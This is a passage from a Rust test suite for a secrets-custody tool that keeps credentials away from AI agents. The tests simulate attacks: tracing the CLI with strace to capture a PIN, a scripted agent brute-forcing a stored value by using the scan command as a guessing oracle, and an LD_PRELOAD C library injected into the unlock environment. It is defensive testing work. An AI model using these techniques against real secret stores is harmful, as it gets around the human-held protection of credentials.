    e.release("done");
    let _ = agent_results(agent);
    assert!(
        said.starts_with("refused"),
        "the attach to the PIN prompt: {said}"
    );
}

/// A traced custody refuses to read a secret (`strace` started it, so the
/// tracer is there from the first byte): `approve` with the PIN on stdin,
/// and `unlock`, which would otherwise also leave a traced broker behind.
#[test]
fn a_traced_cli_refuses_to_read_a_secret() {
    as_each_user(|e| {
        e.ok(&["lock"], "");
        let custody = assert_cmd::cargo::cargo_bin("custody");
        for (args, stdin) in [
            (
                vec!["approve", "r-000000000000", "--once", "--pin-stdin"],
                format!("{PIN}\n"),
            ),
            (vec!["unlock", "--passphrase-stdin"], format!("{PASS}\n")),
        ] {
            let mut c = e.command(Path::new("strace"));
            c.args(["-f", "-qq", "-o", "/dev/null"])
                .arg(&custody)
                .args(&args)
                .stdin(std::process::Stdio::piped())
                .stdout(std::process::Stdio::piped())
                .stderr(std::process::Stdio::piped());
            let mut child = c.spawn().unwrap();
            {
                use std::io::Write;
                let _ = child.stdin.take().unwrap().write_all(stdin.as_bytes());
            }
            let out = child.wait_with_output().unwrap();
            let err = String::from_utf8_lossy(&out.stderr);
            assert!(!out.status.success(), "{args:?} ran traced: {err}");
            assert!(err.contains("being traced"), "{args:?}: {err}");
        }
        assert_eq!(
            e.json(&["status"])["locked"],
            true,
            "a traced unlock unlocked"
        );
    });
}

/// The human's channel, class 3, "a guessing oracle": the agent writes its
/// guesses at a value one per line and scans them. It learns at most
/// "this file holds TOKEN" (no line, so not which guess), every scan is
/// audited, an always-approve environment is not scanned for it at all,
/// and the eleventh scan in a minute is refused. The human's scan of the
/// same file still gives the line.
#[test]
fn attack_scan_as_a_guessing_oracle() {
    as_each_user(|e| {
        e.ok(
            &["env", "create", "prod", "--pin-stdin"],
            &format!("{PIN}\n"),
        );
        e.ok(
            &["set", "prod", "PROD_KEY", "--pin-stdin"],
            &format!("{PIN}\nprod-key-9c1e7f2a4b"),
        );
        e.apply_policy("[defaults]\nalways_approve = [\"prod\"]\n");
        let mut guesses = String::new();
        for i in 0..5000 {
            guesses.push_str(&format!("tok-{i:016x}\n"));
        }
        guesses.push_str(&format!("{TOKEN}\nprod-key-9c1e7f2a4b\n"));
        let file = e.work().join("guesses.txt");
        fs::write(&file, &guesses).unwrap();
        if let Some(uid) = e.uid {
            std::os::unix::fs::chown(&file, Some(uid), Some(uid)).unwrap();
        }
        let custody = assert_cmd::cargo::cargo_bin("custody");
        let scan = format!(
            "'{}' --json scan '{}'",
            custody.display(),
            e.work().display()
        );
        let mut steps = vec![json!({"shell": scan})];
        for _ in 0..10 {
            steps.push(json!({"shell": format!(
                "{scan} >/dev/null 2>err; if grep -q rate_limited err || grep -q 'a minute' err; then echo limited; else echo ran; fi"
            )}));
        }
        let r = e.agent("codex-mcp-client", Value::Array(steps));
        let report: Value = serde_json::from_str(r[0]["stdout"].as_str().unwrap())
            .unwrap_or_else(|_| panic!("{r:?}"));
        let findings = report["findings"].as_array().unwrap();
        assert_eq!(findings.len(), 1, "{report}");
        assert_eq!(findings[0]["variable"], "dev/TOKEN", "{report}");
        assert!(
            findings[0].get("line").is_none(),
            "a line told which guess matched: {report}"
        );
        let said: Vec<&str> = r[1..]
            .iter()
            .map(|x| x["stdout"].as_str().unwrap_or_default().trim())
            .collect();
        assert_eq!(
            said.iter().filter(|s| **s == "limited").count(),
            1,
            "{said:?}"
        );
        let audited = e.audit("agent_scan");
        assert_eq!(audited.len(), 10, "{audited:?}");
        // The scripted agent runs without `custody agent`: the audit says so.
        assert!(
            audited[0]["event"]["by"]
                .as_str()
                .unwrap()
                .starts_with("unsandboxed agent"),
            "{audited:?}"
        );
        // The human's own scan keeps every detail.
        let out = e
            .cmd(&["--json", "scan", e.work().to_str().unwrap()], "")
            .code(1);
        let v: Value = serde_json::from_slice(&out.get_output().stdout).unwrap();
        let lines: Vec<_> = v["findings"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| f["line"].as_u64())
            .collect();
        assert_eq!(lines, [Some(5001), Some(5002)], "{v}");
    });
}

/// A library whose constructor appends `<pid> <argv[1]>` to the file named
/// by `PRELOAD_MARK`, built with the system's C compiler into `dir`.
fn marking_library(dir: &Path) -> std::path::PathBuf {
    let src = dir.join("mark.c");
    fs::write(
        &src,
        r#"#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
__attribute__((constructor)) static void mark(void) {
    const char *to = getenv("PRELOAD_MARK");
    char argv[512] = "";
    const char *first = "";
    FILE *cmd = fopen("/proc/self/cmdline", "r");
    if (cmd) {
        size_t n = fread(argv, 1, sizeof argv - 1, cmd);
        argv[n] = 0;
        size_t zero = strlen(argv);
        if (zero + 1 < n) first = argv + zero + 1;
        fclose(cmd);
    }
    FILE *f = to ? fopen(to, "a") : NULL;
    if (f) {
        fprintf(f, "%d %s\n", (int)getpid(), first);
        fclose(f);
    }
}
"#,
    )
    .unwrap();
    let lib = dir.join("mark.so");
    let status = StdCommand::new("cc")
        .args(["-shared", "-fPIC", "-o"])
        .arg(&lib)
        .arg(&src)
        .status()
        .expect("a C compiler (`cc`): the test command's machine has gcc");
    assert!(status.success(), "cc failed");
    lib
}

/// Defence in depth, "a library in the unlocking environment": `LD_PRELOAD`
/// (and `LD_LIBRARY_PATH`) in the environment the human unlocks from. The
/// broker `custody unlock` starts holds the vault key and every value: it
/// starts without any `LD_*` variable, so the library never runs in it. (The
/// unlocking command itself, in a dynamically linked build such as this
/// test's, does run it: `scripts/install` builds custody statically, where no
/// loader reads these variables; the install check in `scripts/test` shows
/// that. Whoever sets the human's environment can also set `PATH`: see the
/// threat model's residual risks.)
#[test]
fn attack_a_preloaded_library_never_runs_in_the_broker() {
    as_each_user(|e| {
        let lib = marking_library(e.dir.path());
        let marks = e.dir.path().join("marks");
        fs::write(&marks, "").unwrap();
        if let Some(uid) = e.uid {
            std::os::unix::fs::chown(&marks, Some(uid), Some(uid)).unwrap();
        }
        e.ok(&["lock"], "");
        let out = e.unlock_with(&[
            ("LD_PRELOAD", lib.as_os_str()),
            ("LD_LIBRARY_PATH", e.dir.path().as_os_str()),
            ("PRELOAD_MARK", marks.as_os_str()),
        ]);
        assert!(out.status.success(), "unlock failed: {out:?}");
        let broker = e.daemon_pid();
        let marked = fs::read_to_string(&marks).unwrap();
        // The attack is live: the library ran in the unlocking command.
        assert!(
            marked.lines().any(|l| l.ends_with(" unlock")),
            "the library never ran: {marked:?}"
        );
        assert!(
            !marked.lines().any(|l| {
                l.split(' ').next() == Some(broker.to_string().as_str()) || l.ends_with(" daemon")
            }),
            "the library ran in the broker (pid {broker}): {marked:?}"
        );
        // Nothing of the loader's reached the broker's environment (root may
        // read a non-dumpable process's environment; nobody may not).
        if e.uid.is_none() {
            let environ = fs::read(format!("/proc/{broker}/environ")).unwrap();
            assert!(
                !environ.split(|b| *b == 0).any(|v| v.starts_with(b"LD_")),
                "the broker's environment names a loader variable"
            );
        }
    });
}
